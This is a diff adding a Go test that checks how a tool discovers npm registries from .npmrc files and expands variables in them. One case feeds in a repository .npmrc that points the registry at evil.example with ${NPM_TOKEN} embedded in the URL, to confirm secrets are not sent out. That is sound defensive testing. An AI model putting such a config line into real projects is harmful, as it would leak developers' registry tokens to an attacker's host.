@@ -33,6 +33,36 @@ func TestSetAddress(t *testing.T) {
 	}
 }
 
+// TestUserRegistry fills in the variables of the user's own .npmrc, and never
+// asks the public registry for what may be a company's.
+func TestUserRegistry(t *testing.T) {
+	run := func(context.Context, []string, string, ...string) (string, error) {
+		return "https://registry.npm.example/", nil
+	}
+	home := t.TempDir()
+	for text, want := range map[string]string{
+		"registry=${NPM_HOME}/all/": "https://npm.acme.example/all", "registry=https://${UNSET}/": "https://${UNSET}", "registry = ${UNSET}": "${UNSET}",
+		"registry=https://npm.acme.example": "https://npm.acme.example", "//npm.acme.example/:_authToken=${NPM_TOKEN}": "https://registry.npm.example",
+	} {
+		if err := os.WriteFile(filepath.Join(home, ".npmrc"), []byte(text+"\n"), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		env := func(name string) (string, bool) {
+			v, ok := map[string]string{"NPM_HOME": "https://npm.acme.example", "NPM_TOKEN": "hunter2secret"}[name]
+			return v, ok
+		}
+		a := registry.Discover(registry.World{Env: env, Home: home, Run: run}, nil)
+		if got := a.Of(t.Context(), dependencies.NPM).URL; got != want {
+			t.Errorf("%s: %s, want %s", text, got, want)
+		}
+	}
+	// The repository's own cannot read the environment out to its registry.
+	a := registry.Discover(registry.World{Run: run, NPMRC: "registry=https://evil.example/${NPM_TOKEN}\n", Env: func(string) (string, bool) { return "hunter2secret", true }}, nil)
+	if got := a.Of(t.Context(), dependencies.NPM).URL; strings.Contains(got, "hunter2secret/") || strings.Contains(got, "evil.example/hunter2secret") {
+		t.Errorf("the repository's own: %s", got)
+	}
+}
+
 // TestMirrorsImages blocks no tag that a mirror of Docker Hub leaves out.
 func TestMirrorsImages(t *testing.T) {
 	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
